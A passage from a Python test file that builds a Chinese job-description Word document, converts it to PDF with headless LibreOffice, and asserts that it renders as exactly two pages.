        Heading(("文件控制",)),
        Facts(facts[:6], title="文件控制"),
        Paragraph((long * 2,), "small"),
        Signatures(("任职人", "直接上级", "人力资源部"), ("签字", "日期")),
    )
    return replace(DOCUMENT, blocks=blocks)


@pytest.mark.skipif(shutil.which("soffice") is None, reason="needs LibreOffice")
def test_a_typical_job_description_is_two_pages(tmp_path: Path) -> None:
    (tmp_path / "role.docx").write_bytes(word(typical()))
    profile = f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}"
    command = [
        "soffice",
        profile,
        "--headless",
        "--convert-to",
        "pdf",
        "--outdir",
        str(tmp_path),
        str(tmp_path / "role.docx"),
    ]
    subprocess.run(command, check=True, capture_output=True, timeout=120)
    assert len(re.findall(rb"/Type\s*/Page\b", (tmp_path / "role.pdf").read_bytes())) == 2
